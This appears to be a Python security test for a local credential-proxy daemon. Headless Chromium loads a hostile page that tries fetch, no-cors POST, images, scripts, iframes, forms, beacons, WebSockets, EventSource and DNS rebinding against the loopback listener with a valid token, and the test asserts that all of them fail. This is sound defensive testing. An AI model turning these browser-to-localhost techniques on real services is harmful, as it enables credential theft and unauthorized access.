"""A real browser shows a page of somebody else that tries to use the loopback listener, with a good token in hand."""

import http.server
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading

from lib.conformance import Conformance
from lib.scenario import main
from lib.users import TemporaryUser, may_make_users
from lib.vault import wait_until
from tcp_test import free_port

BROWSER = next(filter(None, map(shutil.which, ("chromium-headless-shell", "chromium", "google-chrome"))), None)

# Each attempt gives a word for what the page learned. `target` is the daemon, or a server that lets everybody in.
PAGE = """<!doctype html><meta charset=utf-8><title>evil</title><body><script>
const world = WORLD;
const patience = (ms) => new Promise((done) => setTimeout(() => done("nothing"), ms));
const loaded = (element, url) => new Promise((done) => {
  element.onload = () => done("loaded"); element.onerror = () => done("error");
  element.src = url; document.body.append(element);
});
const attempts = {
  "fetch with the token": (base) => fetch(base + "/v/openai/v1/models", { headers: { authorization: "Bearer " + world.token } }).then((a) => a.text()),
  "fetch with the own header": (base) => fetch(base + "/v/openai/v1/models", { headers: { "x-aivault-token": world.token } }).then((a) => a.text()),
  "fetch of the health": (base) => fetch(base + "/aivault/health").then((a) => a.text()),
  "fetch without cors": (base) => fetch(base + "/v/openai/v1/models", { mode: "no-cors" }).then((a) => a.type),
  "post without cors": (base) => fetch(base + "/aivault/proxy", { mode: "no-cors", method: "POST", headers: { "content-type": "text/plain" },
    body: JSON.stringify({ capability: "openai/models", token: world.token, request: { method: "GET", path: "/v1/models" } }) }).then((a) => a.type),
  "image with the token": (base) => loaded(new Image(), base + "/v/openai/v1/models?key=" + world.token),
  "script": (base) => loaded(document.createElement("script"), base + "/v/openai/v1/models?x=script"),
  "frame with a password": (base) => loaded(document.createElement("iframe"), base.replace("://", "://x:" + world.token + "@") + "/v/openai/v1/models"),
  "form": (base) => new Promise((done) => {
    const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); frame.onload = () => done("loaded"); document.body.append(frame);
    const form = document.createElement("form"); form.method = "POST"; form.enctype = "text/plain"; form.target = frame.name;
    form.action = base + "/v/openai/v1/chat/completions"; document.body.append(form); form.submit();
  }),
  "beacon": async (base) => navigator.sendBeacon(base + "/aivault/proxy", "{}") ? "queued" : "refused",
  "websocket": (base) => new Promise((done) => {
    const socket = new WebSocket(base.replace("http", "ws") + "/aivault/ws?key=" + world.token);
    socket.onopen = () => done("open"); socket.onerror = () => done("error");
  }),
  "events": (base) => new Promise((done) => {
    const source = new EventSource(base + "/v/openai/v1/models");
    source.onopen = () => done("open"); source.onerror = () => { source.close(); done("error"); };
  }),
};
(async () => {
  const learned = {};
  const one = async (place, base, name, attempt) => {
    let got;
    try { got = await Promise.race([attempt(base), patience(8000)]); } catch (error) { got = "error"; }
    learned[place + ": " + name] = String(got).slice(0, 200);
  };
  for (const [place, base] of Object.entries(world.places)) {
    await Promise.all(Object.entries(attempts).map(([name, attempt]) => one(place, base, name, attempt)));
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(learned) });
})();
</script>"""


class Web:
    """An HTTP server on loopback that notes what it was asked."""

    def __init__(self, answer):
        self.seen, web = [], self

        class Handler(http.server.BaseHTTPRequestHandler):
            def handle_any(self):
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                web.seen.append((self.command, self.path, body, dict(self.headers)))
                kind, text, headers = answer(self.path)
                self.send_response(200)
                for name, value in {"content-type": kind, "content-length": str(len(text)), **headers}.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(text)

            do_GET = do_POST = do_OPTIONS = handle_any

            def log_message(self, *_):
                pass
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def all_are_welcome(path):
    kind = "text/javascript" if "x=script" in path else "text/event-stream" if path == "/v/openai/v1/models" else "image/svg+xml"
    text = b"data: let in\n\n" if kind == "text/event-stream" else b'<svg xmlns="http://www.w3.org/2000/svg"/>' if kind != "text/javascript" else b"0"
    return kind, text, {"access-control-allow-origin": "*", "access-control-allow-headers": "*"}


class Chromium(Conformance):
    def setUp(self):
        if not BROWSER:
            self.skipTest("NOT RUN: no Chromium is installed (scripts/packages test)")
        self.user = self.enterContext(TemporaryUser("aivbrowser")) if may_make_users() else None
        self.port = free_port()
        self.stage(env={"AIVAULTD_LISTEN": f"127.0.0.1:{self.port}"})
        uid = self.user.uid if self.user else os.geteuid()
        answer = self.door.request("POST", "/aivault/tokens/proxy", {"capabilities": ["openai/*"], "ttlMs": 3600000, "uid": uid}).json()
        self.token = answer.get("result", answer)["token"]

    def popen_arguments(self):
        return self.user.popen_arguments() if self.user else {}

    def browse(self, url, *flags):
        home = tempfile.mkdtemp(prefix="aiv-browser-", dir="/tmp")
        self.addCleanup(shutil.rmtree, home, ignore_errors=True)
        if self.user:
            os.chown(home, self.user.uid, self.user.gid)
        rules = "MAP evil.test 127.0.0.1, MAP rebound.evil.test 127.0.0.1"
        # Its own sandbox wants what containers do not have; what is tested is its network stack.
        return subprocess.Popen(
            [BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--disable-crash-reporter",
             f"--user-data-dir={home}", f"--host-resolver-rules={rules}", "--no-proxy-server", *flags, url],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env={"PATH": os.environ["PATH"], "HOME": home}, cwd="/",
            start_new_session=True, **self.popen_arguments())

    def stop(self, browser):
        # Its helpers as well, which would keep the pipe open.
        try:
            os.killpg(browser.pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
        browser.stdout.close()
        browser.wait()

    def reaches_with_the_token(self):
        """The same user, outside of a browser: what keeps a page out is not the token."""
        code = ("import sys,urllib.request as u\n"
                "r=u.Request(sys.argv[1],headers={'authorization':'Bearer '+sys.argv[2]})\n"
                "print(u.urlopen(r,timeout=30).status)")
        done = subprocess.run(["python3", "-c", code, f"http://127.0.0.1:{self.port}/v/openai/v1/models", self.token],
                              capture_output=True, text=True, cwd="/", **self.popen_arguments())
        return done.stdout == "200\n" and len(self.up.requests) == 1

    def test_a_page_of_somebody_else_gets_nothing_through(self):
        control = Web(all_are_welcome)
        self.addCleanup(control.close)
        world = {"token": self.token, "places": {"daemon": f"http://127.0.0.1:{self.port}", "localhost": f"http://localhost:{self.port}",
                                                 "rebound": f"http://rebound.evil.test:{self.port}", "control": f"http://127.0.0.1:{control.port}"}}
        page = Web(lambda path: ("text/html", PAGE.replace("WORLD", json.dumps(world)).encode(), {}))
        self.addCleanup(page.close)
        browser = self.browse(f"http://evil.test:{page.port}/", "--remote-debugging-port=0")
        self.addCleanup(self.stop, browser)
        report = wait_until(lambda: [body for method, path, body, _ in page.seen if path == "/report"], 60, "the page's report")[0]
        learned = json.loads(report)
        self.assertEqual([], self.up.requests, learned)
        for place in ("daemon", "localhost", "rebound"):
            got = {name.split(": ", 1)[1]: text for name, text in learned.items() if name.startswith(place + ": ")}
            # What a frame, a form, a beacon and requests without CORS tell a page is nothing about the answer.
            for name in ("fetch with the token", "fetch with the own header", "fetch of the health", "image with the token", "script",
                         "websocket", "events"):
                self.assertIn(got[name], ("error", "nothing"), (place, name, got))
        # The same page at a server that lets it in: each of these ways is a real one.
        for name in ("fetch with the token", "fetch with the own header", "fetch of the health", "events", "script", "form", "fetch without cors",
                     "post without cors"):
            self.assertNotIn(learned["control: " + name], ("error", "nothing"), (name, learned))
        self.assertTrue(any(method == "OPTIONS" for method, *_ in control.seen), "no preflight was seen")
        self.assertTrue(self.reaches_with_the_token())

    def test_a_name_that_was_pointed_here_is_no_name_of_ours(self):
        shown = {}
        for host in ("rebound.evil.test", "127.0.0.1"):
            browser = self.browse(f"http://{host}:{self.port}/aivault/health", "--dump-dom", "--timeout=20000")
            try:
                shown[host] = browser.communicate(timeout=120)[0].decode()
            finally:
                self.stop(browser)
        self.assertIn("origin_not_allowed", shown["rebound.evil.test"])
        self.assertIn('"ok":true', shown["127.0.0.1"])
        self.assertEqual([], self.up.requests)


if __name__ == "__main__":
    sys.exit(main())
